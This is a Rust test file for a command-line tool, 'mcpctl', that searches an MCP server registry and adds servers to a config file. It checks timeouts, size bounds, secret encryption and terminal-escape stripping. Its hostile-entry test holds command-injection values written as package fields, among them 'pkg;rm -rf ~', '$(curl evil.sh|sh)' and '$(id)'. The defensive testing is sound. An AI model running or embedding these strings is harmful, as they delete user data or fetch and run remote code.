//! Issue 27: `mcpctl search` and `mcpctl add` against a registry served on
//! 127.0.0.1 (fixtures shaped like the official schema's examples), hostile entries,
//! and registries that hang, are down or send too much.

use crate::common::registry::{FakeRegistry, Reply, fixture, page};
use crate::common::{TestEnv, free_port, one_server};

#[test]
fn search_follows_the_pages_and_says_how_each_runs() {
    let registry = FakeRegistry::with_fixtures(&[]);
    let env = TestEnv::new();
    let run = env.run(&["search", "--registry", &registry.url]);
    run.success();
    for (name, runs) in [
        ("io.github.example/brave-search", "npm"),
        ("io.github.example/weather-mcp", "pypi"),
        ("io.github.example/filesystem", "oci"),
        ("io.github.example/hosted-search", "remote"),
    ] {
        let line = run
            .stdout
            .lines()
            .find(|l| l.starts_with(name))
            .unwrap_or_else(|| panic!("{name} missing:\n{}", run.stdout));
        assert!(line.contains(runs), "{line}");
    }
    let requests = registry.requests();
    assert_eq!(requests.len(), 2, "{requests:?}");
    assert!(requests[1].contains("cursor=page-2"), "{requests:?}");

    let run = env.run(&[
        "search",
        "weather",
        "--format",
        "json",
        "--registry",
        &registry.url,
    ]);
    run.success();
    let list: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(list[0]["name"], "io.github.example/weather-mcp");
    assert_eq!(list[0]["version"], "0.5.0");
    assert_eq!(list[0]["runs"], serde_json::json!(["pypi"]));
}

#[test]
fn the_registry_comes_from_the_environment_or_the_file() {
    let registry = FakeRegistry::with_fixtures(&[]);
    let env = TestEnv::with_config(&format!(
        "version = 1\n\n[registry]\nurl = \"{}\"\n",
        registry.url
    ));
    env.run(&["validate"]).success();
    env.run(&["search", "brave"])
        .success()
        .stdout_has("io.github.example/brave-search");
    let other = FakeRegistry::serve(|_| Reply::Json(200, page(&[], None)));
    let output = env
        .command(&["search", "brave"])
        .env("MCPCTL_REGISTRY", &other.url)
        .output()
        .unwrap();
    assert!(output.status.success());
    assert_eq!(
        other.requests().len(),
        1,
        "MCPCTL_REGISTRY comes before the file"
    );
}

#[test]
fn descriptions_are_shown_with_terminal_escapes_neutralised() {
    let mut entry: serde_json::Value = serde_json::from_str(&fixture("brave-search")).unwrap();
    entry["description"] = "\u{1b}]0;owned\u{7}\u{1b}[2J nice server\u{202e}".into();
    let body = page(&[entry], None);
    let registry = FakeRegistry::serve(move |_| Reply::Json(200, body.clone()));
    let run = TestEnv::new().run(&["search", "--registry", &registry.url]);
    run.success().stdout_has("nice server");
    assert!(!run.stdout.contains('\u{1b}'), "{:?}", run.stdout);
    assert!(!run.stdout.contains('\u{7}'), "{:?}", run.stdout);
    assert!(!run.stdout.contains('\u{202e}'), "{:?}", run.stdout);
}

#[test]
fn a_registry_that_hangs_is_an_error_within_the_timeout() {
    let registry = FakeRegistry::serve(|_| Reply::Hang);
    let env = TestEnv::new();
    let run = env.run_within(
        15,
        &[
            "search",
            "x",
            "--registry",
            &registry.url,
            "--timeout",
            "1s",
        ],
    );
    run.failure().stderr_has("did not answer within 1s");
}

#[test]
fn a_registry_that_is_down_is_a_clear_error() {
    let url = format!("http://127.0.0.1:{}", free_port());
    let run = TestEnv::new().run_within(15, &["search", "x", "--registry", &url]);
    run.failure().stderr_has("cannot reach the registry at");
}

#[test]
fn pages_and_sizes_are_bounded() {
    // A registry whose pages never end: the search stops after its page bound.
    let entry: serde_json::Value = serde_json::from_str(&fixture("brave-search")).unwrap();
    let body = page(&[], Some("again"));
    let endless = FakeRegistry::serve(move |_| Reply::Json(200, body.clone()));
    TestEnv::new()
        .run_within(30, &["search", "x", "--registry", &endless.url])
        .success();
    assert_eq!(endless.requests().len(), 20);
    // One answer larger than the bound.
    let mut big = entry.clone();
    big["description"] = "x".repeat(5 * 1024 * 1024).into();
    let body = page(&[big], None);
    let huge = FakeRegistry::serve(move |_| Reply::Json(200, body.clone()));
    TestEnv::new()
        .run_within(30, &["search", "x", "--registry", &huge.url])
        .failure()
        .stderr_has("sent more than 4 MiB");
    // Not https, and not this machine.
    TestEnv::new()
        .run(&["search", "x", "--registry", "http://registry.example.com"])
        .failure()
        .stderr_has("is not https://");
}

/// A folder with a file that has this user's recipient, so secrets can be set.
fn env_with_key() -> TestEnv {
    let env = TestEnv::with_config(&one_server());
    env.run(&["config", "secret", "keygen", "--add"]).success();
    env
}

#[test]
fn add_npm_pins_the_version_and_encrypts_the_secret() {
    let registry = FakeRegistry::with_fixtures(&[]);
    let env = env_with_key();
    let port = free_port().to_string();
    env.run(&[
        "add",
        "io.github.example/brave-search",
        "--secret",
        "BRAVE_API_KEY=s3cret-value",
        "--port",
        &port,
        "--no-apply",
        "--registry",
        &registry.url,
    ])
    .success()
    .stderr_has("added brave-search (io.github.example/brave-search 1.0.2)");
    let file = env.read("mcpctl.toml");
    assert!(
        file.contains(&format!(
            "# from the MCP registry: io.github.example/brave-search 1.0.2 ({})\n[servers.brave-search]\ncommand = \"npx\"\nargs = [\"-y\", \"@example/server-brave-search@1.0.2\"]\nport = {port}\nenv = {{ LOG_LEVEL = \"info\" }}\nsecrets = {{ BRAVE_API_KEY = \"age:",
            registry.url
        )),
        "{file}"
    );
    assert!(!file.contains("s3cret-value"), "{file}");
    env.run(&["validate"]).success();
    env.run(&["fmt", "--check"]).success();
    env.run(&[
        "config",
        "secret",
        "get",
        "BRAVE_API_KEY",
        "--server",
        "brave-search",
    ])
    .success()
    .stdout_has("s3cret-value");
    // Added twice: refused, the file as it was.
    env.run(&[
        "add",
        "io.github.example/brave-search",
        "--secret",
        "BRAVE_API_KEY=x",
        "--no-apply",
        "--registry",
        &registry.url,
    ])
    .failure()
    .stderr_has("already in the file");
    assert_eq!(env.read("mcpctl.toml"), file);
}

#[test]
fn add_refuses_when_a_required_secret_or_argument_is_missing_and_lists_them() {
    let registry = FakeRegistry::with_fixtures(&[]);
    let env = env_with_key();
    let before = env.read("mcpctl.toml");
    let run = env.run(&[
        "add",
        "io.github.example/weather-mcp",
        "--registry",
        &registry.url,
    ]);
    run.failure()
        .stderr_has("--secret WEATHER_API_KEY  (API key for weather service)")
        .stderr_has("--arg city=...  (Default city)")
        .stderr_has("nothing was changed");
    assert_eq!(env.read("mcpctl.toml"), before);
    // Given, from stdin: uvx with its arguments after the package.
    env.run_with_stdin(
        &[
            "add",
            "io.github.example/weather-mcp",
            "--as",
            "weather",
            "--arg",
            "city=Oslo",
            "--secret",
            "WEATHER_API_KEY=-",
            "--no-apply",
            "--registry",
            &registry.url,
        ],
        "from-stdin\n",
    )
    .success();
    let file = env.read("mcpctl.toml");
    assert!(
        file.contains("command = \"uvx\"\nargs = [\"weather-mcp-server==0.5.0\", \"--units\", \"celsius\", \"Oslo\"]"),
        "{file}"
    );
    env.run(&[
        "config",
        "secret",
        "get",
        "WEATHER_API_KEY",
        "--server",
        "weather",
    ])
    .success()
    .stdout_has("from-stdin");
}

#[test]
fn add_from_files_an_oci_image_and_a_remote() {
    let env = env_with_key();
    env.write("fs.json", &fixture("filesystem"));
    env.write("remote.json", &fixture("remote"));
    env.run(&[
        "add",
        "fs.json",
        "--arg",
        "source_path=/srv/data",
        "--no-apply",
    ])
    .success();
    env.run(&[
        "add",
        "remote.json",
        "--secret",
        "X_API_KEY=k3y",
        "--no-apply",
    ])
    .success();
    let file = env.read("mcpctl.toml");
    assert!(
        file.contains("command = \"docker\"\nargs = [\"run\", \"-i\", \"--rm\", \"--mount\", \"type=bind,src=/srv/data,dst=/project\", \"-e\", \"LOG_LEVEL\", \"docker.io/mcp/filesystem:1.0.2\", \"/project\"]"),
        "{file}"
    );
    assert!(
        file.contains("[servers.hosted-search]\nmode = \"remote\"\nurl = \"https://mcp.example.com/mcp\"\ntransport = \"streamable-http\""),
        "{file}"
    );
    assert!(
        file.contains("headers = { X-API-Key = \"${X_API_KEY}\", X-Region = \"us-east-1\" }"),
        "{file}"
    );
    env.run(&["validate"]).success();
}

#[test]
fn add_dry_run_shows_the_diff_and_changes_nothing() {
    let registry = FakeRegistry::with_fixtures(&[]);
    let env = env_with_key();
    let before = env.read("mcpctl.toml");
    env.run(&[
        "add",
        "io.github.example/brave-search",
        "--secret",
        "BRAVE_API_KEY=x",
        "--dry-run",
        "--registry",
        &registry.url,
    ])
    .success()
    .stdout_has("+[servers.brave-search]")
    .stdout_has("+command = \"npx\"");
    assert_eq!(env.read("mcpctl.toml"), before);
}

#[test]
fn hostile_entries_are_refused_and_the_file_is_untouched() {
    let env = env_with_key();
    let before = env.read("mcpctl.toml");
    let brave: serde_json::Value = serde_json::from_str(&fixture("brave-search")).unwrap();
    let cases: Vec<(serde_json::Value, &str)> = vec![
        (
            {
                let mut e = brave.clone();
                e["packages"][0]["identifier"] = "pkg;rm -rf ~".into();
                e
            },
            "npm package",
        ),
        (
            {
                let mut e = brave.clone();
                e["packages"][0]["identifier"] = "x pkg".into();
                e
            },
            "npm package",
        ),
        (
            {
                let mut e = brave.clone();
                e["packages"][0]["identifier"] = "$(curl evil.sh|sh)".into();
                e
            },
            "npm package",
        ),
        (
            {
                let mut e = brave.clone();
                e["packages"][0]["identifier"] = "../../bin/sh".into();
                e
            },
            "npm package",
        ),
        (
            {
                let mut e = brave.clone();
                e["packages"][0]["version"] = "1.0.0; id".into();
                e
            },
            "version",
        ),
        (
            {
                let mut e = brave.clone();
                e["packages"][0]["registryType"] = "shell".into();
                e
            },
            "registryType",
        ),
        (
            {
                let mut e = brave.clone();
                e["packages"][0]["packageArguments"] =
                    serde_json::json!([{"type": "positional", "value": "$(id)"}]);
                e
            },
            "not allowed in a value",
        ),
        (
            {
                let mut e = brave.clone();
                e["packages"] = serde_json::json!([]);
                e["remotes"] =
                    serde_json::json!([{"type": "sse", "url": "http://mcp.example.com/sse"}]);
                e
            },
            "not an https:// URL",
        ),
    ];
    for (entry, says) in cases {
        let body = serde_json::json!({ "server": entry }).to_string();
        let registry = FakeRegistry::serve(move |_| Reply::Json(200, body.clone()));
        env.run(&[
            "add",
            "io.github.example/brave-search",
            "--secret",
            "BRAVE_API_KEY=x",
            "--registry",
            &registry.url,
        ])
        .failure()
        .stderr_has(says)
        .stderr_has("nothing was changed");
        assert_eq!(env.read("mcpctl.toml"), before);
    }
}

/// From the attack on issue 27: a registry that answers `add NAME` with another entry
/// (to receive the secrets given for NAME) or another version gets nothing added.
#[test]
fn an_answer_for_another_entry_or_version_is_refused_and_nothing_is_added() {
    use crate::common::registry::listed;
    let mut other: serde_json::Value = serde_json::from_str(&fixture("brave-search")).unwrap();
    other["name"] = "io.github.evil/other".into();
    let other_text = listed(&other).to_string();
    let registry = FakeRegistry::serve(move |_| Reply::Json(200, other_text.clone()));
    let env = env_with_key();
    let before = env.read("mcpctl.toml");
    let port = free_port().to_string();
    env.run(&[
        "add",
        "io.github.example/brave-search",
        "--secret",
        "BRAVE_API_KEY=s3cret-value",
        "--port",
        &port,
        "--no-apply",
        "--registry",
        &registry.url,
    ])
    .failure()
    .stderr_has("the registry answered `io.github.evil/other`");
    assert_eq!(env.read("mcpctl.toml"), before);
    let brave: serde_json::Value = serde_json::from_str(&fixture("brave-search")).unwrap();
    let brave_text = listed(&brave).to_string();
    let registry = FakeRegistry::serve(move |_| Reply::Json(200, brave_text.clone()));
    env.run(&[
        "add",
        "io.github.example/brave-search",
        "--version",
        "9.9.9",
        "--secret",
        "BRAVE_API_KEY=s3cret-value",
        "--no-apply",
        "--registry",
        &registry.url,
    ])
    .failure()
    .stderr_has("answered version");
    assert_eq!(env.read("mcpctl.toml"), before);
}

/// `--secret KEY` with no value on a terminal: asked for without echo, so the typed
/// secret is nowhere in what the terminal shows; encrypted into the file.
#[test]
fn a_secret_asked_on_a_terminal_is_not_echoed() {
    use std::io::{Read, Write};
    if std::process::Command::new("script")
        .arg("--version")
        .output()
        .is_err()
    {
        use std::io::Write as _;
        let _ = writeln!(
            std::io::stderr(),
            "SKIPPED a_secret_asked_on_a_terminal_is_not_echoed: no `script` (util-linux)"
        );
        return;
    }
    let registry = FakeRegistry::with_fixtures(&[]);
    let env = env_with_key();
    let port = free_port().to_string();
    let mut child = env
        .command_in_terminal(&[
            "add",
            "io.github.example/brave-search",
            "--secret",
            "BRAVE_API_KEY",
            "--port",
            &port,
            "--no-apply",
            "--registry",
            &registry.url,
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = child.stdout.take().unwrap();
    // The prompt first (bounded by the 30 s the reader thread gets), then the secret.
    let (tx, rx) = std::sync::mpsc::channel::<Vec<u8>>();
    let reader = std::thread::spawn(move || {
        let mut buf = [0u8; 4096];
        while let Ok(n) = out.read(&mut buf) {
            if n == 0 || tx.send(buf[..n].to_vec()).is_err() {
                break;
            }
        }
    });
    let mut shown = Vec::new();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while !String::from_utf8_lossy(&shown).contains("(not shown):") {
        let left = deadline.saturating_duration_since(std::time::Instant::now());
        match rx.recv_timeout(left) {
            Ok(chunk) => shown.extend(chunk),
            Err(_) => panic!("no prompt: {}", String::from_utf8_lossy(&shown)),
        }
    }
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(b"typed-s3cret-77\n").unwrap();
    let status = child.wait().unwrap();
    drop(stdin);
    let _ = reader.join();
    while let Ok(chunk) = rx.try_recv() {
        shown.extend(chunk);
    }
    let shown = String::from_utf8_lossy(&shown);
    assert!(status.success(), "{shown}");
    assert!(!shown.contains("typed-s3cret-77"), "echoed: {shown}");
    let file = env.read("mcpctl.toml");
    assert!(
        !file.contains("typed-s3cret-77") && file.contains("BRAVE_API_KEY = \"age:"),
        "{file}"
    );
    env.run(&[
        "config",
        "secret",
        "get",
        "BRAVE_API_KEY",
        "--server",
        "brave-search",
    ])
    .success()
    .stdout_has("typed-s3cret-77");
}
